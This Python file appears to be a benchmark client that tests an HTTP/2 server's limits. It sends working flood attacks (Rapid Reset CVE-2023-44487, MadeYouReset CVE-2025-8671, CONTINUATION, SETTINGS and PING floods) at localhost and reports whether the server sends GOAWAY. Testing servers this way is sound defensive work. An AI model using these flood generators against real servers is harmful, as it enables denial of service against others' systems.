"""The flooding client of ``bench/floods.py``: one HTTP/2 connection that sends one flood.

It speaks just enough HTTP/2 to be let in (the preface, SETTINGS, ACKs of the server's
SETTINGS), then writes the flood's frames as fast as the socket takes them, while a reader
looks for the server's GOAWAY. It stops writing at the GOAWAY, at the end of the connection,
or after ``--duration`` seconds, whichever comes first (then it reads a moment longer, for a
GOAWAY that the server sends once it has worked through what it had read), and prints what
happened as one JSON line.

The floods, one per bound in ``mesh/http2/limits.py`` that a peer can push against at line
rate:

    rapid-reset     HEADERS then RST_STREAM(CANCEL), on stream after stream (CVE-2023-44487)
    made-you-reset  HEADERS with END_STREAM then DATA on the ended stream, which the server
                    must answer with RST_STREAM (CVE-2025-8671)
    continuation    HEADERS without END_HEADERS, then empty CONTINUATION frames for ever
                    (the 2024 CONTINUATION flood, VU#421644)
    settings        empty SETTINGS frames, each acknowledged by the server (and read here)
    ping            PING frames, each answered by the server (and read here)

    python -m bench.flooder rapid-reset --port 8443 [--mtls CERT KEY CA] [--duration 2]
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import itertools
import json
import time
from collections.abc import Callable, Iterator
from typing import cast

from hpack import Encoder

from mesh.loop import run
from mesh.tls import client_context

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
BATCH = 256  # frames per write: large enough that the flooder outruns any Python server
GRACE = 0.5  # seconds the flooder still reads, after its time is up, for a GOAWAY
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 0x8


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    """One frame on the wire (RFC 9113 §4.1)."""
    return (len(payload).to_bytes(3, "big") + bytes((kind, flags)) +
            stream_id.to_bytes(4, "big") + payload)


def request_block(path: str) -> bytes:
    """A GET for ``path``, HPACK-encoded once and sent as is for every stream (each copy adds
    the same entries to the server's dynamic table: valid, if wasteful)."""
    return Encoder().encode([(":method", "GET"), (":scheme", "https"),
                             (":authority", "bench"), (":path", path)])


def rapid_reset(block: bytes) -> Iterator[bytes]:
    for stream_id in itertools.count(1, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream_id, block)
        yield frame(RST_STREAM, 0, stream_id, CANCEL.to_bytes(4, "big"))


def made_you_reset(block: bytes) -> Iterator[bytes]:
    for stream_id in itertools.count(1, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream_id, block)
        yield frame(DATA, 0, stream_id, b"after the end")


def continuation(block: bytes) -> Iterator[bytes]:
    yield frame(HEADERS, 0, 1, block)
    empty = frame(CONTINUATION, 0, 1)
    while True:
        yield empty


def settings(block: bytes) -> Iterator[bytes]:
    return itertools.repeat(frame(SETTINGS, 0, 0))


def ping(block: bytes) -> Iterator[bytes]:
    return itertools.repeat(frame(PING, 0, 0, b"floodfld"))


FLOODS: dict[str, Callable[[bytes], Iterator[bytes]]] = {
    "rapid-reset": rapid_reset,
    "made-you-reset": made_you_reset,
    "continuation": continuation,
    "settings": settings,
    "ping": ping,
}


class Flooder(asyncio.Protocol):
    """The flooding connection. It reads as it goes: acknowledges the server's SETTINGS, notes
    its GOAWAY (a protocol rather than a stream reader, which would drop a GOAWAY followed by
    a connection reset)."""

    def __init__(self) -> None:
        self.transport: asyncio.Transport | None = None
        self.goaway: int | None = None  # its error code
        self.ended = asyncio.Event()  # GOAWAY or end of connection
        self.settled = asyncio.Event()  # the server's SETTINGS came and were acknowledged
        self.frames_back = 0
        self._buffer = b""
        self._writable = asyncio.Event()
        self._writable.set()

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = cast(asyncio.Transport, transport)
        self.transport.write(PREFACE + frame(SETTINGS, 0, 0))  # before any ACK of theirs

    def data_received(self, data: bytes) -> None:
        assert self.transport is not None
        buffer = self._buffer + data
        offset = 0
        while len(buffer) - offset >= 9:
            end = offset + 9 + int.from_bytes(buffer[offset:offset + 3], "big")
            if end > len(buffer):
                break
            kind, flags = buffer[offset + 3], buffer[offset + 4]
            self.frames_back += 1
            if kind == SETTINGS and not flags & ACK:
                self.transport.write(frame(SETTINGS, ACK, 0))
                self.settled.set()
            elif kind == GOAWAY and self.goaway is None:
                self.goaway = int.from_bytes(buffer[offset + 13:offset + 17], "big")
                self.ended.set()
            offset = end
        self._buffer = buffer[offset:]

    def pause_writing(self) -> None:
        self._writable.clear()

    def resume_writing(self) -> None:
        self._writable.set()

    def connection_lost(self, exc: Exception | None) -> None:
        self.ended.set()
        self.settled.set()
        self._writable.set()

    async def writable(self) -> None:
        await self._writable.wait()


async def flood(name: str, port: int, mtls: list[str] | None, duration: float,
                path: str) -> dict[str, object]:
    context = client_context(*mtls) if mtls else None
    transport, peer = await asyncio.get_running_loop().create_connection(
        Flooder, "127.0.0.1", port, ssl=context,
        server_hostname="127.0.0.1" if context else None)
    local_port = transport.get_extra_info("sockname")[1]
    # Acknowledge the server's SETTINGS first: an ACK in the middle of a header block would
    # be a protocol error of our own.
    await asyncio.wait_for(peer.settled.wait(), 10)
    frames = FLOODS[name](request_block(path))
    sent = 0
    started = time.monotonic()
    while not peer.ended.is_set() and time.monotonic() - started < duration:
        transport.write(b"".join(itertools.islice(frames, BATCH)))
        sent += BATCH
        await peer.writable()
        await asyncio.sleep(0)  # let the answers in
    if not peer.ended.is_set():
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(peer.ended.wait(), GRACE)
    ended = time.monotonic()
    transport.abort()  # no TLS close_notify exchange: the server may not be reading
    # A server that closes with our frames unread makes its kernel reset the connection, and
    # a write of ours may meet the reset before its GOAWAY was read: "goaway" may be missing
    # when "cut_off" is not.
    return {"flood": name, "local_port": local_port, "sent": sent, "goaway": peer.goaway,
            "cut_off": peer.ended.is_set(), "started": started, "ended": ended,
            "frames_back": peer.frames_back}


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    parser.add_argument("flood", choices=sorted(FLOODS))
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--mtls", nargs=3, metavar=("CERT", "KEY", "CA"))
    parser.add_argument("--duration", type=float, default=2.0)
    parser.add_argument("--path", default="/index.html")
    args = parser.parse_args(argv)
    print(json.dumps(run(flood(args.flood, args.port, args.mtls, args.duration, args.path))),
          flush=True)


if __name__ == "__main__":
    main()
